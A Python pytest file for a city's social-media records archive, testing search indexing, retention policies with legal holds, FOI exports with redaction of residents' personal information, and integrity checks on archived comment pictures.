def test_an_index_built_with_other_columns_is_rebuilt_before_a_search(archive: Path) -> None:
    reindex(archive)
    with sqlite3.connect(archive / "index.sqlite") as db:
        for trigger in ("records_added", "records_changed"):  # which name the column
            db.execute(f"DROP TRIGGER {trigger}")
        db.execute("ALTER TABLE records DROP COLUMN commenter")
        db.execute("PRAGMA user_version = 1")
    db.close()
    assert {r.commenter for r in search(archive, "bullshit")} == {"Riley Cole"}


@pytest.mark.parametrize(
    ("command", "call"),
    [
        ("records search", lambda: tasks.search(Context(), "Laurel")),
        ("records reindex", lambda: tasks.reindex(Context())),
        ("records export", lambda: tasks.export(Context(), "", request="F-1", out="/nonexistent")),
    ],
)
def test_a_search_index_build_that_fills_the_disk_says_so_and_leaves_no_partial_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str, call: Any
) -> None:
    from archive import index

    records = tmp_path / "records"
    for n in range(200):
        _add_comment(
            records, f"c{n}", f"Is Laurel Crescent included? {n}", "2026-11-24T18:00:00+00:00"
        )
    monkeypatch.setenv("RECORDS_DIR", str(records))
    real_connect = sqlite3.connect

    def on_a_full_disk(*args: Any, **kwargs: Any) -> sqlite3.Connection:
        db = real_connect(*args, **kwargs)
        db.execute("PRAGMA max_page_count = 8")  # SQLITE_FULL: 'database or disk is full'
        return db

    monkeypatch.setattr(index.sqlite3, "connect", on_a_full_disk)
    with pytest.raises(Exit) as stopped:
        call()
    assert (stopped.value.code, stopped.value.message) == (
        1,
        f"{command}: cannot build the search index in {records} (RECORDS_DIR): database or "
        "disk is full; the records themselves are untouched, and the next search builds the "
        "index again",
    )
    assert sorted(p.name for p in records.iterdir()) == ["archive"]  # nothing half-built left


PERIODS = "periods_days: {post: 10, comment: 10, moderation: 365}\n"


@pytest.mark.parametrize(
    ("holds", "message"),
    [
        (  # without brackets: it would hold nothing (each letter an announcement)
            "legal_holds:\n  - name: FOI-2026-014\n"
            "    announcements: 2026-11-18-bay-avenue-sidewalk-closure\n",
            "legal_holds[0].announcements: expected a list of announcement names",
        ),
        (
            "legal_holds:\n  - name: FOI-2026-014\n    authors: Riley Cole\n",
            "legal_holds[0].authors: expected a list of comment author names or X @usernames",
        ),
        (
            "legal_holds:\n  - name: FOI-2026-014\n    platforms: [facebok]\n",
            "legal_holds[0].platforms: expected a list of platforms among facebook, twitter, "
            "youtube",
        ),
        (
            "legal_holds:\n  - announcements: [2026-11-20-flushing]\n",
            "legal_holds[0].name: expected the hold's name (e.g. the FOI request)",
        ),
        (
            "legal_holds:\n  - name: FOI-2026-014\n    author: [Riley Cole]\n",
            "legal_holds[0].author: unknown; expected name and announcements, platforms, authors",
        ),
        (
            "legal_holds:\n  - name: FOI-2026-014\n",
            "legal_holds[0]: holds nothing; expected announcements, platforms, authors",
        ),
        (
            "legal_holds:\n  name: FOI-2026-014\n  authors: [Riley Cole]\n",
            "legal_holds: expected a list of holds",
        ),
        (
            "legal_hold:\n  - name: FOI-2026-014\n    authors: [Riley Cole]\n",
            "legal_hold: unknown; expected periods_years or periods_days or legal_holds",
        ),
    ],
    ids=[
        "scalar-announcements",
        "scalar-authors",
        "unknown-platform",
        "no-name",
        "misspelt-field",
        "holds-nothing",
        "holds-not-a-list",
        "misspelt-setting",
    ],
)
def test_a_malformed_retention_policy_names_the_file_the_field_and_what_was_expected(
    tmp_path: Path, holds: str, message: str
) -> None:
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS + holds)
    with pytest.raises(RetentionError) as error:
        RetentionPolicy.load(policy_file)
    assert str(error.value) == f"{policy_file}: {message}"


def test_a_second_legal_holds_block_does_not_silently_drop_the_first(tmp_path: Path) -> None:
    # The records officer adds a hold at the end of the file, under a new `legal_holds:`.
    path = tmp_path / "retention.yml"
    path.write_text(
        "periods_years:\n  post: 7\n  comment: 3\n  moderation: 3\n"
        "legal_holds:\n"
        "  - name: FOI request 2026-014\n"
        "    announcements: [2026-11-18-bay-avenue-sidewalk-closure]\n"
        "\n# Added for the Cole claim\n"
        "legal_holds:\n"
        "  - name: Litigation hold, Cole v. Trail\n"
        "    authors: [Riley Cole]\n"
    )
    with pytest.raises(RetentionError) as error:
        RetentionPolicy.load(path)
    assert str(error.value) == (
        f"{path}:10: legal_holds: given a second time (first on line 5); write it once, "
        "as only the last would count"
    )


def test_invoke_records_retention_shows_a_malformed_policy_without_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "policy").mkdir()
    (tmp_path / "policy" / "retention.yml").write_text(
        PERIODS + "legal_holds:\n  - announcements: [2026-11-20-flushing]\n"
    )
    monkeypatch.setattr(tasks, "ROOT", tmp_path)
    with pytest.raises(Exit) as stopped:
        tasks.retention(Context(), dry_run=True)
    assert stopped.value.code == 2
    assert stopped.value.message == (
        f"records retention: {tmp_path / 'policy' / 'retention.yml'}: "
        "legal_holds[0].name: expected the hold's name (e.g. the FOI request)"
    )


def test_a_period_given_both_in_years_and_in_days_is_refused(tmp_path: Path) -> None:
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS + "periods_years: {post: 7}\n")
    with pytest.raises(RetentionError) as error:
        RetentionPolicy.load(policy_file)
    assert str(error.value) == (
        f"{policy_file}: post: given in both periods_years and periods_days; expected one period"
    )


def test_the_citys_retention_policy_is_valid() -> None:
    policy = RetentionPolicy.load(ROOT / "policy" / "retention.yml")
    assert policy.periods["moderation"].years >= MINIMUM_YEARS["moderation"]


def test_the_archive_repository_packs_its_grown_files_instead_of_keeping_each_whole(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    comments = records / "archive" / "comments.jsonl"
    comments.parent.mkdir(parents=True)

    def grow_and_commit(n: int) -> None:
        ChainFile(comments).extend({"run": n, "line": i} for i in range(200))
        assert commit_archive(records, f"run {n}", repack_over_kib=64) is not None

    def objects() -> dict[str, int]:
        out = subprocess.run(
            ["git", "-C", str(records), "count-objects", "-v"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        return {k: int(v) for k, v in (line.split(": ") for line in out.splitlines())}

    grow_and_commit(0)
    assert objects()["count"] > 0 and objects()["in-pack"] == 0  # small: left loose
    for n in range(1, 6):
        grow_and_commit(n)
    packed = objects()
    assert packed["size"] <= 64 and packed["in-pack"] > 0  # loose objects went into a pack
    log = subprocess.run(
        ["git", "-C", str(records), "log", "--format=%s"], capture_output=True, text=True
    ).stdout.split("\n")
    assert log[:2] == ["run 5", "run 4"]  # every commit kept


def test_a_city_contact_a_resident_quotes_is_not_flagged_nor_severed(tmp_path: Path) -> None:
    """City Hall's number and address (policy/public-contacts.yml) are the City's, public:
    only the resident's own number is theirs."""
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel: I called 250-364-1262 and info@trail.ca, went to "
                 "1394 Pine Ave.; call me back at 250-555-0142.", "2026-11-24T18:00:00+00:00",
                 "Avery Lee", author_id="901")  # fmt: skip
    out = tmp_path / "foi"
    summary = export(records, ROOT, "FOI-2026-015", ["Laurel"], out, redact=True)
    (text,) = [r["text"] for r in json.loads((out / "redacted" / "records.json").read_text())[
        "records"]]  # fmt: skip
    assert "250-364-1262" in text and "info@trail.ca" in text and "250-555-0142" not in text
    assert "1394 Pine Ave" in text
    assert summary["flags"] == 3  # the name, the account id and the resident's own number


def _pictured(site: Site, sandboxes: Sandboxes) -> tuple[Any, dict[str, Any]]:
    """A Facebook post with a comment that is only a photo, kept by collect, swapped for
    another whose CDN link had expired; and a neighbour's comment showing a picture that a
    later collect kept (the CDN did not answer the first)."""
    from tests.test_collect import fb_photo

    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    fb = sandboxes.facebook
    post = next(iter(sandboxes.facebook.posts))
    tub_bytes = b"\xff\xd8\xff\xe0 brown water in my tub"
    tub = fb.add_picture(tub_bytes)
    photo = fb.add_comment(post, "", "Jordan Park", attachment=fb_photo(tub))
    collect(settings, site.content, say=lambda _: None)
    sink = fb.add_picture(b"\xff\xd8\xff sink")
    fb.expire_picture(sink)
    fb.edit_attachment(photo, fb_photo(sink))
    hydrant_bytes = b"\x89PNG\r\n\x1a\n hydrant"
    hydrant = fb.add_picture(hydrant_bytes, "image/png")
    # (its path: the link is signed, `?oh=…&oe=…`)
    fb.inject("server_error", path=hydrant.split("?")[0].rsplit("/", 1)[-1], times=2, status=503)
    later = fb.add_comment(post, "Ours too", "Sam Lee", attachment=fb_photo(hydrant))
    collect(settings, site.content, say=lambda _: None)
    collect(settings, site.content, say=lambda _: None)  # keeps the hydrant
    return settings, {
        "photo": photo,
        "later": later,
        "tub": (tub, f"{hashlib.sha256(tub_bytes).hexdigest()}.jpg", tub_bytes),
        "sink": sink,
        "hydrant": (hydrant, f"{hashlib.sha256(hydrant_bytes).hexdigest()}.png", hydrant_bytes),
        "page": fb_photo(tub)["url"],
    }


def test_an_foi_package_holds_the_pictures_comments_showed_and_names_them(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """Months later the CDN links answer nothing: the package holds the pictures the archive
    kept, named in the CSV and shown in the report where the links are; one not kept says why.
    The pictures are their posters' personal information: flagged, and left out of the
    severed copy, as their links are severed."""
    _, made = _pictured(site, sandboxes)
    (tub, tub_file, tub_bytes), (hydrant, hydrant_file, hydrant_bytes) = (
        made["tub"],
        made["hydrant"],
    )
    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-014", ["flushing"], out, redact=True)

    assert (out / "attachments" / tub_file).read_bytes() == tub_bytes
    assert (out / "attachments" / hydrant_file).read_bytes() == hydrant_bytes
    manifest = (out / "MANIFEST.sha256").read_text()
    assert f"{tub_file[:64]}  attachments/{tub_file}\n" in manifest
    with (out / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = [row for row in csv.DictReader(handle) if row["type"] == "comment"]
    page = made["page"]
    assert sorted(row["attachment"] for row in rows) == sorted(
        [
            f"photo: {tub} {page}; kept as attachments/{tub_file}",
            f"photo: {made['sink']} {page}; picture not kept: the link answered 404 (expired)",
            f"photo: {hydrant} {page}; kept as attachments/{hydrant_file}",
        ]
    )
    report = (out / "report.html").read_text()
    assert f'<img src="attachments/{tub_file}"' in report
    assert f'<img src="attachments/{hydrant_file}"' in report  # kept by a later collect
    assert "Picture not kept: the link answered 404 (expired)".lower() in report.lower()
    data = json.loads((out / "records.json").read_text())["records"]
    held = {r["data"]["picture"].get("file") for r in data if r["type"] == "comment"}
    assert held == {f"archive/attachments/{tub_file}", None, f"archive/attachments/{hydrant_file}"}

    flagged = {
        (PersonalInfo(r["file"] + ":" + str(r["line"]), "attachment", value))
        for r in data
        if r["type"] == "comment" and r["data"]["picture"].get("sha256")
        for value in (r["data"]["picture"]["file"], r["data"]["picture"]["sha256"])
    }
    records = list(read_records(site.root / "records"))
    comment_lines = [r for r in records if r.type == "comment"]
    found = {f for r in comment_lines for f in personal_information(r)}
    assert {f for f in flagged if f.record == comment_lines[0].key} <= found

    redacted = out / "redacted"
    assert not (redacted / "attachments").exists()
    severed_copy = "".join(p.read_text() for p in redacted.iterdir() if p.is_file())
    for value in (tub_file[:64], hydrant_file[:64]):
        assert value in report and value not in severed_copy


def test_records_retention_lists_a_picture_with_its_comment_never_a_held_ones(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    _, made = _pictured(site, sandboxes)
    records = site.root / "records"
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS)
    later = datetime.now(UTC) + timedelta(days=400)
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    pictures = {p.file: [r.comment_id for r in p.records] for p in pictures_due(records, due)}
    assert pictures == {
        f"archive/attachments/{made['tub'][1]}": [made["photo"]],
        f"archive/attachments/{made['hydrant'][1]}": [made["later"]],
    }
    policy_file.write_text(PERIODS + "legal_holds:\n  - name: FOI-1\n    authors: [Sam Lee]\n")
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    assert [p.file for p in pictures_due(records, due)] == [f"archive/attachments/{made['tub'][1]}"]
    # The same picture posted again by someone held (one file, shown by both): kept.
    from tests.test_collect import fb_photo

    again = sandboxes.facebook.add_picture(made["tub"][2])
    post = next(iter(sandboxes.facebook.posts))
    sandboxes.facebook.add_comment(post, "Same here", "Sam Lee", attachment=fb_photo(again))
    collect(site.syndicate_to(sandboxes), site.content, say=lambda _: None)
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    assert made["photo"] in {r.comment_id for r in due}  # Jordan Park's comment is due
    assert pictures_due(records, due) == []
    # Not yet due: nothing of it listed.
    assert (
        pictures_due(
            records,
            due_for_disposition(records, RetentionPolicy.load(policy_file), datetime.now(UTC)),
        )
        == []
    )


def test_invoke_records_retention_lists_picture_files_with_their_comments(
    site: Site, sandboxes: Sandboxes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    _, made = _pictured(site, sandboxes)
    policy_file = tmp_path / "policy" / "retention.yml"
    policy_file.parent.mkdir()
    policy_file.write_text("periods_days: {post: 1, comment: 1, moderation: 365}\n")
    monkeypatch.setattr(tasks, "ROOT", tmp_path)
    monkeypatch.setenv("RECORDS_DIR", str(site.root / "records"))
    monkeypatch.setattr(tasks, "datetime", _Later)
    tasks.retention(Context(), dry_run=True)
    out = capsys.readouterr().out
    assert re.search(
        rf"picture +archive/attachments/{made['tub'][1]}  with archive/comments.jsonl:\d+\n", out
    )
    assert "records retention: 2 picture file(s) due with their comments." in out
    # The later collect's line about the hydrant's picture, with its version.
    assert re.search(
        rf"comment +archive/comments.jsonl:\d+  2026-11-20-flushing  \(what a later collect "
        rf"found of the picture of version 1 of comment {made['later']}\)\n",
        out,
    ), out


class _Later(datetime):
    @classmethod
    def now(cls, tz: Any = None) -> _Later:
        return cls.fromtimestamp(datetime.now(UTC).timestamp() + 400 * 86400, tz)


def test_records_verify_checks_each_kept_picture_against_its_recorded_sha256(
    site: Site, sandboxes: Sandboxes, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    _, made = _pictured(site, sandboxes)
    records = site.root / "records"
    monkeypatch.setenv("RECORDS_DIR", str(records))
    tasks.verify(Context())
    assert "every archive file is intact" in capsys.readouterr().out
    tub = records / "archive" / "attachments" / made["tub"][1]
    tub.write_bytes(b"\xff\xd8\xff another picture")
    hydrant = records / "archive" / "attachments" / made["hydrant"][1]
    hydrant.unlink()
    message = _verify_fails(records, monkeypatch)
    err = capsys.readouterr().err
    # Each named with the comment line that recorded it: whose picture it was.
    comments = records / FILES["comment"]
    lines = comments.read_text().splitlines()
    tub_line = next(n for n, line in enumerate(lines, 1) if made["tub"][1] in line)
    hydrant_line = next(n for n, line in enumerate(lines, 1) if made["hydrant"][1] in line)
    assert f"{tub}: picture altered" in err
    assert f"as recorded by {comments}:{tub_line}" in err
    assert f"{hydrant}: picture missing (recorded with sha256 " in err
    assert f"by {comments}:{hydrant_line}" in err
    assert message.startswith("records verify: ")


def _pictured_line(records: Path, comment_id: str, picture: dict[str, Any], **fields: Any) -> Path:
    """A comment line, as collect writes one, with its picture kept (`picture`) in a file
    written beside it; the file's path."""
    jpeg = f"\xff\xd8\xff {comment_id}".encode("latin-1")
    digest = hashlib.sha256(jpeg).hexdigest()
    path = records / "archive" / "attachments" / f"{digest}.jpg"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(jpeg)
    kept = {"sha256": digest, "file": f"archive/attachments/{digest}.jpg", "type": "image/jpeg",
            "bytes": len(jpeg)}  # fmt: skip
    _add_comment(records, comment_id, "", "2026-11-24T18:00:00+00:00",
                 picture={**kept, **picture}, **fields)  # fmt: skip
    return path


@pytest.mark.parametrize(
    "damage",
    [b'{"kind": "comment", "text": "Cut sh', b"not json at all\n", b'{"kind": "Caf\xc3\n'],
)
def test_records_verify_names_a_broken_comment_line_with_pictures_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    damage: bytes,
) -> None:  # fmt: skip
    """Checking the pictures must not stop verify on the very lines it is there to name: a
    line cut short or not JSON is named as a broken chain (exit 1), and the pictures of the
    lines it can read are still checked."""
    records = tmp_path / "records"
    picture = _pictured_line(records, "c1", {})
    assert commit_archive(records, "Collect comments")
    comments = records / FILES["comment"]
    with comments.open("ab") as handle:
        handle.write(damage)
    _add_comment(records, "c2", "Later", "2026-11-25T18:00:00+00:00")
    picture.unlink()
    message = _verify_fails(records, monkeypatch)
    err = capsys.readouterr().err
    assert f"{comments}:2: hash chain broken" in err
    assert f"{picture}: picture missing" in err
    assert message.startswith("records verify: ")


@pytest.mark.parametrize(
    ("fields", "named"),
    [
        ({"version": "2a"}, """'version' field is "2a"; expected a whole number"""),
        ({"platform": "instagram"}, f"""'platform' field is "instagram"; {PLATFORMS}"""),
        ({"picture": {"sha256": "ab" * 32}}, "picture recorded (sha256 abab"),
        ({"picture": {"sha256": "ab" * 32, "file": 7}}, "'picture.file' field is 7; expected text"),
    ],
)
def test_records_verify_names_a_comment_line_added_by_hand_with_a_picture_never_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    fields: dict[str, Any], named: str,
) -> None:  # fmt: skip
    """A line added by hand (chained, so the chain holds) with a field not of its type, or a
    picture said kept that names no file, is named with its file and line, as every other
    records command names it; the other lines' pictures are checked all the same."""
    records = tmp_path / "records"
    intact = _pictured_line(records, "c1", {})
    picture = fields.pop("picture", {})
    if picture:
        ChainFile(records / FILES["comment"]).append(
            {"kind": "comment", "platform": "facebook", "announcement": "a", "post_id": "p1",
             "comment_id": "c2", "version": 1, "author": "Quinn Reyes", "text": "",
             "created": "2026-11-24T18:00:00+00:00", "picture": picture}
        )  # fmt: skip
    else:
        _pictured_line(records, "c2", {}, **fields)
    intact.write_bytes(b"\xff\xd8\xff altered")
    _verify_fails(records, monkeypatch)
    err = capsys.readouterr().err
    assert f"{records / FILES['comment']}:2: " in err and named in err
    assert f"{intact}: picture altered" in err


def test_records_retention_lists_a_versions_later_picture_line_with_it_held_as_it_is(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """A later collect's line about a version's picture (`comment_picture`) names the
    commenter, the comment and the picture's file: disposing of the version and not it would
    keep the commenter's name past its period (and verify would call the picture missing
    forever). It is listed right after its version, and never while the comment is held."""
    _, made = _pictured(site, sandboxes)
    records = site.root / "records"
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS)
    later = datetime.now(UTC) + timedelta(days=400)
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    lines = ChainFile(records / FILES["comment"]).events()
    picture_lines = [n for n, e in enumerate(lines, 1) if e["kind"] == "comment_picture"]
    assert len(picture_lines) == 1
    (version,) = [r for r in due if r.comment_id == made["later"] and r.data["kind"] == "comment"]
    after = due[due.index(version) + 1]
    assert (after.file, after.line) == (str(FILES["comment"]), picture_lines[0])
    assert after.comment_id == made["later"] and after.author == "Sam Lee"
    # Not yet due, or held: not listed.
    policy_file.write_text(PERIODS + "legal_holds:\n  - name: FOI-1\n    authors: [Sam Lee]\n")
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    assert made["later"] not in {r.comment_id for r in due}
    assert made["photo"] in {r.comment_id for r in due}
    now = due_for_disposition(records, RetentionPolicy.load(policy_file), datetime.now(UTC))
    assert now == []


@pytest.mark.parametrize(
    "created",
    ["2026-11-24T18:00:00+0000", "2026-11-24T18:00:00.000Z", "2026-11-24T18:00:00Z", ""],
    ids=["facebook", "x", "youtube", "not-given"],
)
def test_a_comment_line_dated_as_each_platform_dates_it_passes(created: str) -> None:
    """Each platform's own form of a time is kept as it gives it (Graph's +0000, X's
    milliseconds and Z), and a comment it gave no time for as empty: each is read."""
    check_comment_types(
        {**COMMENTED, "seq": 1, "time": "2026-11-24T18:00:05+00:00"}
        | {
            "created": created,
            "updated": None,
        }
    )
